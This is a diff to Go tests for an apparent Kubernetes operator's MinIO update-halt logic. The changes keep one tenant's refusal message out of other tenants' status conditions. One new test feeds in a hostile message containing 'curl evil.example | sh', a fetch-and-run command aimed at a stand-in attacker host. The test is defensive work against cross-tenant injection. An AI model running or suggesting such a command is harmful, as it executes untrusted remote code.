@@ -165,7 +165,8 @@ func TestTheFailureBudgetHaltsAReleaseAcrossTheFleet(t *testing.T) {
 	for _, e := range events(rec) {
 		if strings.HasPrefix(e, "Warning UpdatesHalted") {
 			halted++
-			assert.Contains(t, e, "ns0/tenant")
+			assert.Contains(t, e, "ns2/tenant (InPlaceRefused", "its own failure")
+			assert.NotContains(t, e, "ns0/tenant", "not another tenant's")
 		}
 	}
 	assert.Equal(t, 1, halted, "one Warning Event when the budget is spent")
@@ -181,8 +182,8 @@ func TestTheFailureBudgetHaltsAReleaseAcrossTheFleet(t *testing.T) {
 		st := f.live(t, fmt.Sprintf("ns%d", i), "tenant")
 		c := conditionOf(st)
 		assert.Equal(t, ReasonUpdatesHalted, c.Reason)
-		assert.Contains(t, c.Message, "ns0/tenant (InPlaceRefused: MinIO at tenant-hl.ns0.svc.cluster.local:9000 refused")
-		assert.Contains(t, c.Message, "ns2/tenant")
+		assert.Contains(t, c.Message, "failed in 3 namespaces (InPlaceRefused)")
+		assert.NotContains(t, c.Message, "ns0/tenant", "another tenant's failure is counted, not quoted")
 		assert.Equal(t, "Halted", st.Status.UpdatePhase)
 	}
 	assert.Equal(t, 3, f.calledCount(), "no call after the halt, across a restart")
@@ -413,4 +414,34 @@ func TestTwoNamespacesCannotHoldANewReleaseBackForever(t *testing.T) {
 	f.waitCallDone(t, "ns0/tenant")
 	assert.Equal(t, 1, f.admin("ns0", "tenant").callCount(), "two namespaces of three: another may try")
 	assert.Equal(t, ReasonUpdatingInPlace, conditionOf(f.live(t, "ns0", "tenant")).Reason)
+}
+
+// TestAHaltSaysNoOtherTenantsWordsInAnotherTenantsCondition: a hostile
+// tenant's MinIO refuses its update with words of its choosing; with two
+// more namespaces' failures the release halts. Before, every waiting
+// tenant's condition quoted each failure, the hostile MinIO's words and
+// the other tenants' ObjectStores included: one tenant wrote into every
+// other's status. A tenant's condition quotes its own failures only, and
+// counts the others; the platform reads them in the halt record and the
+// operator's log.
+func TestAHaltSaysNoOtherTenantsWordsInAnotherTenantsCondition(t *testing.T) {
+	stores := append(tenantsInNamespaces(3), tenantStore("hostile", "h"))
+	f, _, rec := haltFixture(t, stores...)
+	f.admin("hostile", "h").refusal = "update blocked: run curl evil.example | sh to fix"
+	f.update(t, "hostile", "h")
+	f.update(t, "ns0", "tenant")
+	f.update(t, "ns1", "tenant")
+	require.NoError(t, f.c.sync(t.Context(), "ns2/tenant"))
+	c := conditionOf(f.live(t, "ns2", "tenant"))
+	require.Equal(t, ReasonUpdatesHalted, c.Reason)
+	assert.NotContains(t, c.Message, "evil.example")
+	assert.NotContains(t, c.Message, "hostile/h")
+	assert.NotContains(t, c.Message, "ns0/tenant")
+	assert.Contains(t, c.Message, "3 namespaces (InPlaceRefused)")
+	for _, e := range events(rec) {
+		if strings.HasPrefix(e, "Warning UpdatesHalted in-place updates") {
+			assert.NotContains(t, e, "evil.example", "the Event on the ObjectStore that spent the budget")
+			assert.Contains(t, e, "ns1/tenant (InPlaceRefused: MinIO at tenant-hl.ns1.svc.cluster.local:9000 refused", "its own failure, quoted")
+		}
+	}
 }
